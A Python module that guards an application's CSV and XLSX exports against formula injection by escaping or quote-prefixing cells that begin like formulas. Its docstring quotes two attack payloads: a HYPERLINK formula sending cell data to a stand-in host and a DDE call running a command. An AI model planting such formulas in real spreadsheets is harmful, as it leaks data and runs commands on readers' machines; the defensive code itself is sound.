"""Cells that a spreadsheet would run as formulas, made plain text in every file we write.

A name, a task or a description is typed by people; written to a spreadsheet as
``=HYPERLINK("http://evil.example/?d="&C2,"x")`` or ``=cmd|' /C calc'!A0`` it becomes a live
formula in the reader's Excel (CSV/formula injection). Every XLSX and CSV the product writes
goes through here:

- XLSX (`workbook_bytes`): every cell that looks like a formula is stored as a text cell
  with Excel's "quote prefix" style, exactly as Excel keeps a value typed as ``'=…``. The
  text itself is unchanged, so a file exported and imported again reads the same.
- CSV (`csv_text`, `csv_row`): a CSV cell has no type, so such a value gets a leading
  apostrophe, as OWASP recommends; Excel and LibreOffice then show it as text.

A cell "looks like a formula" when it starts with ``= + - @``, a tab or a carriage return,
or when white space before one of those is all that comes first. Numbers are numbers:
``-12.50`` (as DRF writes a negative decimal) and ``+3`` stay as they are. The product writes
no formulas of its own, so nothing here needs to tell a wanted formula from an injected one.
"""

import io
import re
from collections.abc import Iterable

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
CSV_ESCAPE = "'"


def looks_like_formula(value) -> bool:
    """Whether a spreadsheet could take this text cell for a formula (or a DDE call)."""
    if not isinstance(value, str) or not value:
        return False
    if value.startswith(FORMULA_STARTS):
        return not NUMBER.fullmatch(value)
    stripped = value.lstrip()
    return stripped != value and stripped.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(stripped)


def csv_text(value):
    """A value as a CSV cell that a spreadsheet reads as text, not as a formula."""
    return CSV_ESCAPE + value if looks_like_formula(value) else value


def csv_row(values: Iterable) -> list:
    """A row of CSV cells, each through `csv_text`."""
    return [csv_text(value) for value in values]


def neutralise_workbook(workbook: Workbook) -> None:
    """Store every formula-like cell of every sheet as text with Excel's quote prefix."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or looks_like_formula(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def workbook_bytes(workbook: Workbook) -> bytes:
    """The XLSX file of a workbook the product built, every cell a person typed kept as text."""
    neutralise_workbook(workbook)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()
